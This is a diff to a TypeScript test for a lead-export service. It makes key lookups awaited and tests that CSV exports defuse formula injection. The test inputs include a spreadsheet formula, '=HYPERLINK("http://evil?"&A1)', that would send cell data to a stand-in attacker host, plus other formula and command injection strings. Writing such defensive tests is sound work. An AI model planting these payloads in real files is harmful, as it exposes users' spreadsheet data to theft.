@@ -41,7 +41,7 @@ describe('the export', () => {
   afterAll(async () => server.close());
 
   async function createLead(call: string, caller: string, args: Record<string, unknown>) {
-    const client = await connect(server, callHeaders({ key: server.key('acme'), call, caller }));
+    const client = await connect(server, callHeaders({ key: await server.key('acme'), call, caller }));
     try {
       const result = await client.callTool({ name: 'create_lead', arguments: args });
       expect(result.isError, JSON.stringify(result)).toBeFalsy();
@@ -53,7 +53,7 @@ describe('the export', () => {
   it('defuses formulas in every field from outside and leaves phone numbers as they are', async () => {
     await createLead('=HYPERLINK("http://evil?"&A1)', '@SUM(1+1)', { name: '+12125550100', intent: '-2+3', notes: '=cmd' });
     await createLead('+cmd', '+12125550155', { name: 'Jane', intent: 'A quote' });
-    const response = await admin(server, server.key('acme', 'admin'), 'GET', 'acme/leads?format=csv');
+    const response = await admin(server, await server.key('acme', 'admin'), 'GET', 'acme/leads?format=csv');
     expect(response.status).toBe(200);
     const rows = response.text.split('\r\n').slice(1).filter(Boolean);
     const [evil, plain] = [rows.find((row) => row.includes('HYPERLINK')), rows.find((row) => row.includes('Jane'))];
